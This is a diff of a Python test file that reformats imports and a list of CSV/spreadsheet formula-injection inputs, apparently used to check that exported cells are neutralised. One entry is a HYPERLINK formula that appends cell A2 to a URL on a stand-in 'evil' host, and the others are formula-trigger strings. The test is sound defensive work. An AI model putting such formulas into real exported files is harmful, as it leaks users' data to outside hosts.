@@ -11,15 +11,7 @@ import pyarrow.parquet
 import pytest
 
 from analyser.common.estimates import plus_minus
-from analyser.common.text import (
-    code_span,
-    csv_cell,
-    csv_frame,
-    csv_text,
-    json_text,
-    markdown,
-    percent,
-)
+from analyser.common.text import code_span, csv_cell, csv_frame, csv_text, json_text, markdown, percent
 from analyser.results.rendering import FORMATS
 
 
@@ -54,19 +46,8 @@ def test_every_format_has_nothing_where_a_number_is_none(tmp_path):
     assert pyarrow.parquet.read_table(tmp_path / "t.parquet")["value"].to_pylist() == [1.5, None]
 
 
-RUN = [
-    '=HYPERLINK("http://evil/?"&A2)',
-    "+1+1",
-    "-1+1",
-    "@SUM(1)",
-    "\t=1",
-    "\n=1",
-    "'=1",
-    "''@",
-    "--",
-    "\uff1d1",
-    "-1.5a",
-]
+RUN = ['=HYPERLINK("http://evil/?"&A2)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\n=1"]
+RUN += ["'=1", "''@", "--", "\uff1d1", "-1.5a"]
 NOT_RUN = ["Guard", "a=b", "it's", "'", "'x", "", "-", "-1.5", "+3", "-.5e-3", "-12%", " =1", -1.5, 3, None, True]
 
 
